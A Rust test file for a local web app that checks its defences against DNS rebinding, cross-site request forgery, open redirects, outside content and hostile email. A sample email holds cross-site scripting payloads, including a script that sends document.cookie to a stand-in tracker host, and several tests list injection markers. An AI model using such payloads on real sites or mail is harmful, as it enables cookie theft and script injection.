//! Who may ask, and what a browser may do with the answer.

use crate::desk::Served;
use crate::http::ask;
use std::path::Path;

#[test]
fn a_name_that_was_made_to_point_here_gets_nothing() {
    let served = Served::shared();
    for host in [
        "evil.example",
        "evil.example:80",
        "192.168.0.4:80",
        "localhost",
    ] {
        let answer = ask(&served.host, "GET", "/", &[("Host", host)], b"");
        assert_eq!(answer.status, 403, "{host}");
        assert!(!answer.text().contains("<html"));
    }
    let port = served.host.rsplit(':').next().expect("a port");
    let host = format!("localhost:{port}");
    let answer = ask(&served.host, "GET", "/", &[("Host", &host)], b"");
    assert_eq!(answer.status, 200);
}

#[test]
fn pages_may_load_nothing_from_elsewhere() {
    let served = Served::shared();
    for path in [
        "/",
        "/people",
        "/nowhere",
        "/static/app.css",
        "/api/v1/brief",
    ] {
        let answer = served.get(path);
        let policy = answer.header("content-security-policy").expect("a policy");
        assert!(policy.starts_with("default-src 'none';"), "{path}");
        assert!(
            !policy.contains("unsafe") && !policy.contains("http"),
            "{path}"
        );
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(answer.header("referrer-policy"), Some("same-origin"));
    }
    for path in [
        "/",
        "/opportunities",
        "/accounts",
        "/people",
        "/track-record",
        "/sources",
    ] {
        let page = served.page(path);
        for word in [
            "http://",
            "https://",
            "style=",
            "<script>",
            "onclick",
            "javascript:",
        ] {
            assert!(!page.contains(word), "{path} has {word}");
        }
    }
}

#[test]
fn only_pages_of_our_own_change_anything() {
    let served = Served::shared();
    let (cookie, token) = served.session();
    let ours = format!("http://{}", served.host);
    let form = format!("token={token}&zone=Europe%2FBerlin");
    let kind = ("Content-Type", "application/x-www-form-urlencoded");
    let try_with = |headers: &[(&str, &str)], form: &str| {
        let headers = [&[kind], headers].concat();
        ask(
            &served.host,
            "POST",
            "/settings/zone",
            &headers,
            form.as_bytes(),
        )
        .status
    };
    let cookie = ("Cookie", cookie.as_str());
    let evil = ("Origin", "http://evil.example");
    assert_eq!(try_with(&[cookie, evil], &form), 403, "from elsewhere");
    assert_eq!(try_with(&[cookie, ("Origin", "null")], &form), 403);
    assert_eq!(
        try_with(&[("Origin", &ours)], &form),
        403,
        "without a session"
    );
    let guessed = [("Cookie", "bellwether_1=x"), ("Origin", ours.as_str())];
    assert_eq!(try_with(&guessed, &form), 403);
    let without = "token=&zone=Europe%2FBerlin";
    assert_eq!(try_with(&[cookie, ("Origin", &ours)], without), 403);
    let cross = [cookie, ("Sec-Fetch-Site", "cross-site")];
    assert_eq!(try_with(&cross, &form), 403);
    assert!(
        !served.dir.join("settings.toml").exists(),
        "nothing was changed"
    );
    let sent = [("Content-Type", "text/plain"), ("Origin", ours.as_str())];
    let answer = ask(&served.host, "POST", "/api/v1/undo", &sent, b"{}");
    assert_eq!(answer.status, 403, "what a form could send is no API call");
}

#[test]
fn a_form_leads_to_pages_of_our_own_only() {
    let served = Served::demo();
    let page = served.page("/opportunities");
    let (_, id) = page.split_once("id=\"o").expect("an opportunity");
    let id = &id[..32];
    let form = "back=%2F%2Fevil.example%2F";
    let answer = served.post(&format!("/opportunities/{id}/take"), form);
    assert_eq!(answer.status, 303);
    let place = answer.header("location").expect("a place");
    assert!(place.starts_with("/opportunities/"), "{place}");
}

#[test]
fn it_listens_to_nobody_else() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_bellwether"));
    command.arg("--workspace").arg(dir.path().join("workspace"));
    command.args(["serve", "--host", "0.0.0.0", "--port", "0"]);
    let output = command.output().expect("the program starts");
    assert_eq!(output.status.code(), Some(2));
    let says = String::from_utf8_lossy(&output.stderr);
    assert!(says.contains("there is no login yet"), "{says}");
}

/// A mail with everything in it that could act by itself.
const HOSTILE: &str = "From: Ann <ann@customer.example>\r
To: me@seller.example\r
Subject: <script>alert(1)</script> order\r
Date: Tue, 5 Mar 2024 10:00:00 +0000\r
Message-ID: <hostile-1@customer.example>\r
Content-Type: text/html; charset=utf-8\r
\r
<html><head><style>@import url(http://tracker.example/a.css);</style>
<script>fetch('http://tracker.example/'+document.cookie)</script></head>
<body onload=\"alert(1)\"><p>We need forty valves by May.</p>
<img src=\"http://tracker.example/pixel.gif\" width=1 height=1>
<a href=\"javascript:alert(1)\">click</a>
<form action=\"http://tracker.example/\"><input name=q></form>
<iframe src=\"http://tracker.example/\"></iframe>
<svg onload=\"alert(1)\"></svg></body></html>\r
";

#[test]
fn nothing_in_a_mail_runs_or_is_fetched() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let mail = dir.path().join("hostile.eml");
    std::fs::write(&mail, HOSTILE).expect("written");
    let served = Served::with_files(&[Path::new(&mail)]);
    let found = served.page("/search?q=forty+valves");
    assert!(
        found.contains("&#60;script&#62;alert(1)"),
        "its subject is text"
    );
    let (_, id) = found.split_once("href=\"/show/").expect("a hit");
    let page = served.page(&format!("/show/{}", &id[..32]));
    assert!(page.contains("We need forty valves by May."));
    for word in [
        "<script>",
        "<img src=\"http",
        "<iframe",
        "<form action=\"http",
        "onload",
        "<svg",
        "href=\"javascript",
        "@import",
    ] {
        assert!(!page.contains(word), "{word} is in the page");
    }
}
